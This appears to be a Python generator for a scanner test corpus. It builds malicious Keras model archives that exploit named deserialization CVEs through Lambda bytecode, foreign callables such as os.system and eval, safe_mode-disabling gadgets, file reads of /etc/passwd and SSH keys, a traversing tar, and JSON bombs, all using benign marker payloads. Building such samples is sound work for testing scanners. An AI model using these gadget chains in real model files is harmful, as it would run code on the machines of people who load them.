"""Configs that name what must not be named: code, foreign classes, other files, huge shapes."""

from dataclasses import replace

from scan_corpus.keras_archives import (
    dense,
    dumped,
    input_layer,
    layer,
    model,
    sequential,
    write_model,
)
from scan_corpus.kinds import kind
from scan_corpus.payloads import MARKER, PYTHON, SHELL, bytecode, torch_pickled, traversing_tar

UNSAFE_ONLY = "with safe_mode=False; Keras 3 refuses it otherwise"
OLD_IMPORT = "on load and call in Keras before 3.9"
KERAS_GADGET = "on load in Keras before 3.11"
LEGACY = "on load from .h5 in Keras before 3.11.3, whatever safe_mode says"
REFUSED = "refused by Keras from 3.9 on; executes before, and in tf_keras"
CALLABLES = (
    ("os", "system", [SHELL]),
    ("subprocess", "run", [["touch", f"/tmp/{MARKER}"]]),
    ("builtins", "eval", [f"(lambda x: {PYTHON})(0)"]),
    ("posix", "system", [SHELL]),
    ("builtins", "exec", [f"(lambda x: {PYTHON})(0)"]),
    ("pty", "spawn", [["touch", f"/tmp/{MARKER}"]]),
    ("runpy", "run_path", [f"/tmp/{MARKER}.py"]),
    ("importlib", "import_module", ["this"]),
    ("webbrowser", "open", ["http://127.0.0.1:9/"]),
    ("numpy.f2py.capi_maps", "eval", ["0"]),
    ("torch.utils.collect_env", "run", [SHELL]),
)


def config_kind(name, harm, effect, cve="", family="config", fixed=()):
    """Registers a function that returns the harmful layer of a variant, or several."""

    def register(make):
        def build(folder, variant):
            made = make(variant)
            layers = made if isinstance(made, list) else [made]
            if any("inbound_nodes" in one for one in layers):
                variant = replace(variant, outer="Functional")
            return write_model(folder, model(layers, variant), variant)

        kind(name, family, harm, effect, cve, fixed)(build)
        return make

    return register


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def picked_function(variant):
    module, name, _ = variant.pick(CALLABLES, "callable")
    return function(module, name)


def picked_call(variant):
    return variant.pick(CALLABLES, "callable")[2]


def code(variant):
    """A lambda as Keras 3 stores it in a layer of its own."""
    held = {"code": bytecode(variant), "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": held}


def code_value(variant):
    """A lambda as Keras 3 stores it anywhere else."""
    value = [bytecode(variant), None, None]
    return {"class_name": "__lambda__", "config": {"value": value}}


def lambda_layer(variant, function, **more):
    config = {"name": variant.name, "trainable": True, "function": function, "arguments": {}}
    return layer("Lambda", config | more, variant, name=variant.name)


def called(one, arguments):
    """The layer with a call in which the first of `arguments` stands for its inputs.

    A functional model makes the call while it is loaded, so nothing needs to be predicted.
    """
    call = {"args": [], "kwargs": {"inputs": arguments[0]} if arguments else {}}
    return one | {"inbound_nodes": [call], "build_config": {"input_shape": [None, 4]}}


@config_kind("lambda-bytecode", "code", UNSAFE_ONLY, "CVE-2024-3660")
def _lambda_bytecode(variant):
    return lambda_layer(variant, code(variant))


@config_kind("lambda-bytecode-legacy", "code", LEGACY, "CVE-2024-3660")
def _lambda_bytecode_legacy(variant):
    return lambda_layer(
        variant,
        [bytecode(variant), None, None],
        function_type="lambda",
        module="__main__",
        output_shape=None,
        output_shape_type="raw",
        output_shape_module=None,
    )


@config_kind("lambda-output-shape", "code", UNSAFE_ONLY)
def _lambda_output_shape(variant):
    return lambda_layer(variant, function("builtins", "relu"), output_shape=code(variant))


@config_kind("lambda-mask", "code", UNSAFE_ONLY)
def _lambda_mask(variant):
    return lambda_layer(variant, function("builtins", "relu"), mask=code(variant))


@config_kind("lambda-foreign-function", "code", OLD_IMPORT, "CVE-2025-1550")
def _lambda_foreign(variant):
    return called(lambda_layer(variant, picked_function(variant)), picked_call(variant))


@config_kind("lambda-foreign-function-legacy", "code", REFUSED, "CVE-2025-1550")
def _lambda_foreign_legacy(variant):
    module, name, _ = variant.pick(CALLABLES, "callable")
    return lambda_layer(variant, name, function_type="function", module=module)


@config_kind("function-as-layer", "code", OLD_IMPORT, "CVE-2025-1550")
def _function_as_layer(variant):
    one = picked_function(variant) | {"name": variant.name}
    return called(one, picked_call(variant))


@config_kind("function-type", "code", REFUSED)
def _function_type(variant):
    config = {"name": variant.name, "code": bytecode(variant), "globals": {}}
    return {"module": "types", "class_name": "FunctionType", "config": config}


@config_kind("get-file", "files", KERAS_GADGET, "CVE-2025-8747")
def _get_file(variant):
    module = variant.pick(("keras.utils", "keras.src.utils.file_utils"), "module")
    arguments = {
        "fname": f"../{MARKER}",
        "origin": "http://127.0.0.1:9/payload",
        "cache_dir": "/tmp",
        "force_download": True,
    }
    one = lambda_layer(variant, function(module, "get_file"), arguments=arguments)
    return called(one, ["payload"])


@config_kind("enable-unsafe", "code", KERAS_GADGET, "CVE-2025-9906")
def _enable_unsafe(variant):
    opened = lambda_layer(variant, function("keras.config", "enable_unsafe_deserialization"))
    second = lambda_layer(variant, code(variant))
    second["config"]["name"] = second["name"] = variant.name + "_2"
    return [called(opened, []), second]


@config_kind("enable-unsafe-alone", "code", KERAS_GADGET, "CVE-2025-9906")
def _enable_unsafe_alone(variant):
    module = variant.pick(("keras.config", "keras.src.saving.serialization_lib"), "module")
    return called(lambda_layer(variant, function(module, "enable_unsafe_deserialization")), [])


@config_kind("set-global-attribute", "code", KERAS_GADGET, "CVE-2025-9906")
def _set_global(variant):
    changed = function("keras.src.backend.common.global_state", "set_global_attribute")
    one = lambda_layer(variant, changed, arguments={"value": False})
    return called(one, ["safe_mode_saving"])


@config_kind("load-model", "code", KERAS_GADGET, "CVE-2025-8747")
def _load_model(variant):
    module = variant.pick(("keras.models", "keras.saving", "keras"), "module")
    loaded = function(module, "load_model")
    one = lambda_layer(variant, loaded, arguments={"safe_mode": False})
    return called(one, [f"/tmp/{MARKER}.keras"])


@config_kind("func-load", "code", KERAS_GADGET)
def _func_load(variant):
    one = lambda_layer(variant, function("keras.src.utils.python_utils", "func_load"))
    return called(one, [bytecode(variant)])


@config_kind("numpy-load", "code", OLD_IMPORT, "CVE-2025-1550")
def _numpy_load(variant):
    one = lambda_layer(variant, function("numpy", "load"), arguments={"allow_pickle": True})
    return called(one, [f"/tmp/{MARKER}.npy"])


def paths(variant):
    return variant.pick(
        (
            "/etc/passwd",
            "../../../../etc/passwd",
            "file:///etc/passwd",
            "http://127.0.0.1:9/words",
            "gs://bucket/words.txt",
            "~/.ssh/id_rsa",
            "C:\\Windows\\win.ini",
            "\\\\server\\share\\words.txt",
        ),
        "path",
    )


@config_kind("string-lookup-file", "files", "on load in Keras before 3.12", "CVE-2025-12058")
def _string_lookup(variant):
    config = {"name": variant.name, "vocabulary": paths(variant), "output_mode": "int"}
    return layer("StringLookup", config | {"num_oov_indices": 1}, variant)


@config_kind("integer-lookup-file", "files", "on load in Keras before 3.12", "CVE-2025-12058")
def _integer_lookup(variant):
    config = {"name": variant.name, "vocabulary": paths(variant), "vocabulary_dtype": "int64"}
    return layer("IntegerLookup", config, variant)


@config_kind("text-vectorization-file", "files", "on load in Keras before 3.12", "CVE-2025-12058")
def _text_vectorization(variant):
    config = {"name": variant.name, "vocabulary": paths(variant), "output_mode": "int"}
    return layer("TextVectorization", config, variant)


@config_kind("text-standardize-lambda", "code", UNSAFE_ONLY)
def _text_standardize(variant):
    key = variant.pick(("standardize", "split"), "key")
    config = {"name": variant.name, key: code_value(variant), "vocabulary": ["a"]}
    return layer("TextVectorization", config, variant)


@config_kind("hub-tokenizer-file", "files", "on load where keras_hub is installed, up to 0.29")
def _hub_tokenizer(variant):
    module = variant.pick(
        ("keras_hub.src.models.parseq.parseq_tokenizer", "keras_hub.models"), "module"
    )
    config = {"name": variant.name, "vocabulary": paths(variant)}
    return layer("PARSeqTokenizer", config, module=module) | {
        "registered_name": "keras_hub>PARSeqTokenizer"
    }


@config_kind("torch-module", "code", "on load in Keras 3.11.0 to 3.11.2", "CVE-2025-49655")
def _torch_module(variant):
    held = torch_pickled(variant)
    module = {"class_name": "__bytes__", "config": {"value": held}}
    config = {"name": variant.name, "module": variant.pick((held, module), "module")}
    return layer("TorchModuleWrapper", config | {"output_shape": [None, 3]}, variant)


@config_kind("saved-model-layer", "code", "on call in Keras before 3.13.2", "CVE-2026-1462")
def _tfsm_layer(variant):
    where = (f"/tmp/{MARKER}", "//server/share/model", "gs://bucket/model", "assets/model")
    config = {"name": variant.name, "filepath": variant.pick(where, "filepath")}
    config |= {"call_endpoint": "serve", "call_training_endpoint": None, "trainable": True}
    return layer("TFSMLayer", config, variant)


@config_kind("jax-layer-lambda", "code", UNSAFE_ONLY)
def _jax_layer(variant):
    key = variant.pick(("call_fn", "init_fn"), "key")
    config = {"name": variant.name, "call_fn": None, "params": None, "state": None, "seed": None}
    return layer("JaxLayer", config | {key: code_value(variant)}, variant)


@config_kind("flax-layer-foreign", "code", OLD_IMPORT, "CVE-2025-1550")
def _flax_layer(variant):
    module = {"module": "backdoor.net", "class_name": "Net", "config": {}, "registered_name": "Net"}
    return layer("FlaxLayer", {"name": variant.name, "module": module, "method": None}, variant)


FOREIGN = ("backdoor.layers", "keras_contrib.layers", "my_project", "__main__", "setuptools")


@config_kind("foreign-class", "code", OLD_IMPORT, "CVE-2025-1550")
def _foreign_class(variant):
    config = {"name": variant.name, "units": 3}
    return layer("Backdoor", config, module=variant.pick(FOREIGN, "module")) | {
        "registered_name": "Backdoor"
    }


@config_kind("registered-class", "code", "on load where the package is imported")
def _registered_class(variant):
    package = variant.pick(("Custom", "backdoor", "keras_secret"), "package")
    return layer("Backdoor", {"name": variant.name}, module=None) | {
        "registered_name": f"{package}>Backdoor"
    }


@config_kind("builtin-name-foreign-module", "code", OLD_IMPORT, "CVE-2025-1550")
def _foreign_dense(variant):
    return dense(variant.name) | {
        "module": variant.pick((*FOREIGN, "keras_layers", "ker\u0430s.layers", "keras.."), "module")
    }


@config_kind("keras-module-unknown-class", "code", "on load where that module is installed")
def _unknown_keras(variant):
    module = variant.pick(
        ("keras.src.backdoor", "keras.layers.backdoor", "keras_hub.src.backdoor"), "module"
    )
    return layer("Backdoor", {"name": variant.name}, module=module)


@config_kind("activation-lambda", "code", UNSAFE_ONLY)
def _activation_lambda(variant):
    return dense(variant.name, activation=code_value(variant))


@config_kind("activation-foreign-function", "code", OLD_IMPORT, "CVE-2025-1550")
def _activation_foreign(variant):
    return dense(variant.name, activation=picked_function(variant))


@config_kind("initializer-foreign-class", "code", OLD_IMPORT, "CVE-2025-1550")
def _initializer_foreign(variant):
    key = variant.pick(("kernel_initializer", "bias_initializer"), "key")
    module = variant.pick(FOREIGN, "module")
    return dense(variant.name, **{key: layer("Backdoor", {}, module=module)})


@config_kind("initializer-popen", "code", OLD_IMPORT, "CVE-2025-1550")
def _initializer_popen(variant):
    popen = layer("Popen", {"args": ["touch", f"/tmp/{MARKER}"]}, module="subprocess")
    return dense(variant.name, kernel_initializer=popen)


@config_kind("regularizer-lambda", "code", UNSAFE_ONLY)
def _regularizer_lambda(variant):
    key = variant.pick(("kernel_regularizer", "bias_constraint", "activity_regularizer"), "key")
    return dense(variant.name, **{key: code_value(variant)})


@config_kind("type-specification-foreign", "code", OLD_IMPORT, "CVE-2025-1550")
def _type_specification(variant):
    spec = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess"}
    spec |= {"config": [["touch", f"/tmp/{MARKER}"]], "registered_name": None}
    return layer("InputLayer", {"name": variant.name, "type_spec": spec})


@config_kind("dtype-policy-foreign", "code", OLD_IMPORT, "CVE-2025-1550")
def _dtype_policy(variant):
    popen = layer("Popen", {"args": ["touch", f"/tmp/{MARKER}"]}, module="subprocess")
    return dense(variant.name, dtype=popen)


def compile_kind(name, effect, cve=""):
    """Registers a function that returns the harmful part of a `compile_config`."""

    def register(make):
        def build(folder, variant):
            config = model([dense(variant.name)], variant)
            usual = {"optimizer": "adam", "loss": "mse", "metrics": ["mae"]}
            config["compile_config"] = usual | make(variant)
            return write_model(folder, config, variant)

        kind(name, "config", "code", effect, cve)(build)
        return make

    return register


@compile_kind("compile-loss-lambda", UNSAFE_ONLY)
def _compile_loss(variant):
    key = variant.pick(("loss", "metrics", "weighted_metrics"), "key")
    return {key: code_value(variant) if key == "loss" else [code_value(variant)]}


@compile_kind("compile-foreign-function", OLD_IMPORT, "CVE-2025-1550")
def _compile_function(variant):
    key = variant.pick(("loss", "metrics"), "key")
    held = picked_function(variant)
    return {key: held if key == "loss" else {"out": [[held]]}}


@compile_kind("compile-foreign-optimizer", OLD_IMPORT, "CVE-2025-1550")
def _compile_optimizer(variant):
    module = variant.pick(FOREIGN, "module")
    rate = layer("Schedule", {"rate": 0.1}, module=module)
    nested = layer("SGD", {"learning_rate": rate}, module="keras.optimizers")
    return {"optimizer": variant.pick((layer("Evil", {}, module=module), nested), "depth")}


@kind("get-file-tar", "config", "files", KERAS_GADGET, "CVE-2025-12060", ("container", "suffix"))
def _get_file_tar(folder, variant):
    arguments = {"fname": "a", "extract": True, "origin": "file:///tmp/a.tar", "cache_dir": "/tmp"}
    one = lambda_layer(variant, function("keras.utils", "get_file"), arguments=arguments)
    extra = [("assets/layers/a.tar", traversing_tar(variant))]
    return write_model(folder, model([one], variant), variant, extra=extra)


@config_kind("parameter-budget", "resources", "on load in every Keras")
def _parameter_budget(variant):
    one = dense(variant.name, units=10**9)
    two = dense(variant.name, units=10**6), dense(variant.name + "_2", units=10**6)
    table = layer("Embedding", {"name": variant.name, "input_dim": 10**10, "output_dim": 512})
    return variant.pick(([one, dense(variant.name + "_2", units=10**6)], [*two], table), "layer")


@kind("config-depth", "config", "resources", "stack overflow of naive readers", "", ("json_style",))
def _config_depth(folder, variant):
    text = dumped(model([dense(variant.name)], variant), variant)
    depth = variant.pick((100_000, 20_000), "depth")
    if variant.container == "h5":
        variant = replace(variant, container="keras")
    bomb = b'{"extra": ' + b"[" * depth + b"]" * depth + b", " + text[1:]
    return write_model(folder, bomb, variant)


@kind("config-duplicate-key", "config", "code", UNSAFE_ONLY, "", ("json_style", "container"))
def _duplicate_key(folder, variant):
    held = dumped(model([lambda_layer(variant, code(variant))], variant), variant)
    # Who keeps the first of two keys sees another class than who keeps the last.
    shown = b'"class_name": "Flatten", "class_name": "Lambda"'
    assert b'"class_name": "Lambda"' in held
    return write_model(folder, held.replace(b'"class_name": "Lambda"', shown), variant)


@kind("config-padded", "config", "code", UNSAFE_ONLY, "", ("container",))
def _config_padded(folder, variant):
    layers = [lambda_layer(variant, code(variant))]
    many = [dense(f"dense_{at}") for at in range(variant.pick((2000, 500), "layers"))]
    config = sequential([input_layer(), *many, *layers])
    return write_model(folder, config, variant)
